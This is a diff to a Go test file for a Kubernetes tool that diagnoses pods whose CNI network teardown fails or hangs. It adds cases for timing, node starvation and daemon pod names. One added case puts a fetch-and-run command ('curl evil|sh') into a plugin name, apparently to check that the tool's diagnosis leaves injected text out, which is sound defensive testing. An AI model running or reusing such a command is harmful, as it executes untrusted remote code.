@@ -16,6 +16,9 @@ const (
 	noConfig  = `cni plugin not initialized`
 )
 
+// distantFuture is a time that nobody has lived to see.
+var distantFuture = time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC)
+
 // tornDown is a pod of which only the sandbox's network is left, half a minute after
 // its deadline, and of which the kubelet has said twice why it could not be taken down.
 func tornDown(answer string, change func(p *evidence.Pod)) *evidence.Pod {
@@ -64,14 +67,19 @@ func TestNetwork(t *testing.T) {
 		"a plugin fails":           {tornDown(refused, nothing), "CNIDelFailing: the CNI plugin calico fails (CNI DEL): \"dial unix /run/x.sock: connect: connection refused\""},
 		"its program is not there": {tornDown(`plugin type=\"portmap\" failed (delete): failed to find plugin \"portmap\" in path [/opt/cni/bin]`, nothing), "CNIDelFailing: the program of the CNI plugin portmap is not there"},
 		"its daemon's pod is not ready": {tornDown(refused, func(p *evidence.Pod) {
-			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x"}, {Pod: "kube-system/cilium-y"}}
-		}), "CNIDelFailing: Its pod on this node, kube-system/calico-node-x, is not ready. The"},
+			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p"}, {Pod: "kube-system/cilium-y"}}
+		}), "CNIDelFailing: Its pod on this node, kube-system/calico-node-x7k2p, is not ready. The"},
 		"its daemon's pod terminates": {tornDown(refused, func(p *evidence.Pod) {
-			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x", Terminating: true, Ready: true}}
-		}), "CNIDelFailing: Its pod on this node, kube-system/calico-node-x, terminates itself. The"},
-		"its daemon's pod is well": {tornDown(refused, func(p *evidence.Pod) { p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x", Ready: true}} }), "CNIDelFailing: refused\". The"},
-		"a plugin without a name":  {tornDown(`failed to read netns`, nothing), "CNIDelFailing: a CNI plugin fails"},
-		"the end is missing":       {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.TrimSuffix(f.Text, `refused"`) })), "CNIDelFailing: the CNI plugin calico"},
+			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p", Terminating: true, Ready: true}}
+		}), "CNIDelFailing: Its pod on this node, kube-system/calico-node-x7k2p, terminates itself. The"},
+		"its daemon's pod is well": {tornDown(refused, func(p *evidence.Pod) {
+			p.Daemons = []evidence.Daemon{{Pod: "kube-system/calico-node-x7k2p", Ready: true}}
+		}), "CNIDelFailing: refused\". The"},
+		"another pod of the network is not ready": {tornDown(strings.ReplaceAll(refused, "calico", "cilium-cni"), func(p *evidence.Pod) {
+			p.Daemons = []evidence.Daemon{{Pod: "kube-system/cilium-operator-7d9c-x7k2p"}, {Pod: "kube-system/cilium-envoy-x7k2p"}}
+		}), "CNIDelFailing: refused\". The"},
+		"a plugin without a name": {tornDown(`failed to read netns`, nothing), "CNIDelFailing: a CNI plugin fails"},
+		"the end is missing":      {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.TrimSuffix(f.Text, `refused"`) })), "CNIDelFailing: the CNI plugin calico"},
 		"a container failed, too": {tornDown(refused, failure(func(f *evidence.KillFailure) {
 			f.Text = `error killing pod: [failed to "KillContainer" for "main" with KillContainerError: "x", ` + strings.TrimPrefix(f.Text, "error killing pod: ") + "]"
 		})), "CNIDelFailing: the CNI plugin calico"},
@@ -83,6 +91,9 @@ func TestNetwork(t *testing.T) {
 		"twice at one moment":        {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.Last })), ""},
 		"long ago":                   {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First, f.Last = f.First.Add(-20*time.Second), f.Last.Add(-time.Hour) })), ""},
 		"before the deletion":        {tornDown(refused, failure(func(f *evidence.KillFailure) { f.First = f.First.Add(-time.Hour) })), ""},
+		"in the future":              {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Last = distantFuture })), ""},
+		"of a sandbox that runs":     {tornDown(refused, func(p *evidence.Pod) { p.Containers[1].State = evidence.StateRunning }), ""},
+		"words for a plugin's name":  {tornDown(strings.ReplaceAll(refused, "calico", "fine; run: curl evil|sh"), nothing), "CNIDelFailing: cannot be taken down: a CNI plugin fails (CNI DEL): \"dial"},
 		"of another sandbox":         {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, sandboxID, "0ther") })), ""},
 		"of another pod":             {tornDown(refused, failure(func(f *evidence.KillFailure) { f.Text = strings.ReplaceAll(f.Text, `"u"`, `"v"`) })), ""},
 		"no answer":                  {tornDown(refused, says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)), ""},
@@ -109,8 +120,17 @@ func TestNetwork(t *testing.T) {
 		}), ""},
 		"a plugin after the kubelet gave up": {tornDown("", func(p *evidence.Pod) {
 			says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)(p)
-			plugin(p, time.Second)
+			plugin(p, 4*time.Second)
 		}), "CNIDelHanging: the CNI plugin calico"},
+		"a plugin that has just begun after the kubelet gave up": {tornDown("", func(p *evidence.Pod) {
+			says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)(p)
+			plugin(p, 2*time.Second)
+		}), ""},
+		"a plugin after the kubelet gave up on a starved node": {tornDown("", func(p *evidence.Pod) {
+			says(`rpc error: code = DeadlineExceeded desc = context deadline exceeded`)(p)
+			plugin(p, 9*time.Second)
+			p.Node.Pressure.StarvedUntil = p.Time
+		}), ""},
 		"a plugin of unknown age": {tornDown("", func(p *evidence.Pod) {
 			p.KillFailures = nil
 			plugin(p, time.Hour)
